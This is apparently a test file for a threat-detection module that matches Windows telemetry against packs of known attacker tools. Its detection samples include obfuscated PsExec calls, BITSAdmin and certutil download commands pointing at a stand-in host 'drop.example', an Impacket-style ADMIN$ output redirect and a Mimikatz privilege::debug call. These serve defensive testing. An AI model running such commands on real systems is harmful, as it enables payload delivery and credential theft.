import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { createToolKnowledge, identifyTools, readToolPack, type ToolObservation } from "../../src/case/index.ts";
import { sha256 } from "../support/telemetry.ts";

const FOLDER = join(import.meta.dirname, "../../packs/tools");
const PACKS = readdirSync(FOLDER).map((file) => ({ file, read: readToolPack(readFileSync(join(FOLDER, file), "utf8"), sha256) }));
const TRAITS = PACKS.flatMap(({ read }) => (read.ok ? read.value : []));
const KNOWLEDGE = createToolKnowledge({ traits: TRAITS, hashes: [], software: [] }, sha256);

for (const { file, read } of PACKS)
  test(`packs/tools/${file} is read, and every trait of it has a source`, () => {
    assert.ok(read.ok, read.ok ? "" : `${read.fault.where}: expected ${read.fault.expected}`);
    assert.ok(read.value.length > 0 && read.value.every(({ source }) => /, reviewed \d{4}-/.test(source)));
  });

test("every tool has one pack", () => {
  const ids = PACKS.flatMap(({ read }) => (read.ok ? [read.value[0]?.tool.id] : []));
  assert.equal(new Set(ids).size, ids.length);
});

const seen = (fields: ToolObservation["fields"]): ToolObservation => ({
  records: ["r"],
  place: "hts-jump1",
  atMs: 0,
  fields,
  techniques: [],
});
const named = (fields: ToolObservation["fields"]) =>
  identifyTools(KNOWLEDGE, [seen(fields)], { background: null }).tools.map(({ tool }) => tool.name);

const SHOWN: readonly (readonly [tool: string, fields: ToolObservation["fields"]])[] = [
  ["PsExec", { ServiceName: "PSEXESVC" }],
  ["PsExec", { CommandLine: 'Ps""Exec64.exe \\\\hts-time1 -accepteula -s hostname' }],
  ["PsExec", { PipeName: "\\PSEXESVC-HTS-JUMP1-4711-stdin" }],
  ["BITSAdmin", { CommandLine: "bits^admin /Transfer job https://drop.example/a C:\\a" }],
  ["certutil", { CommandLine: "certutil.exe \u2013urlcache -f http://drop.example/a a" }],
  ["Impacket", { CommandLine: "cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__1763800000.0 2>&1" }],
  ["Mimikatz", { CommandLine: "m.exe privilege::debug exit" }],
];
for (const [tool, fields] of SHOWN)
  test(`${tool} is known by ${JSON.stringify(fields)}`, () => assert.ok(named(fields).includes(tool)));

const ORDINARY: readonly ToolObservation["fields"][] = [
  { CommandLine: "powershell.exe -NoProfile -File C:\\Scripts\\backup.ps1" },
  { CommandLine: "certutil -verify harbour.cer" },
  { CommandLine: "bitsadmin /list" },
  { CommandLine: "C:\\Program Files\\PsExecutor\\run.exe" },
  { CommandLine: "cmd.exe /c echo hello > C:\\out.txt" },
  { ServiceName: "Spooler", PipeName: "\\spoolss" },
  { TargetImage: "C:\\Windows\\System32\\lsass.exe", SourceImage: "C:\\Windows\\System32\\svchost.exe", GrantedAccess: "0x1000" },
];
for (const fields of ORDINARY) test(`no tool is seen in ${JSON.stringify(fields)}`, () => assert.deepEqual(named(fields), []));
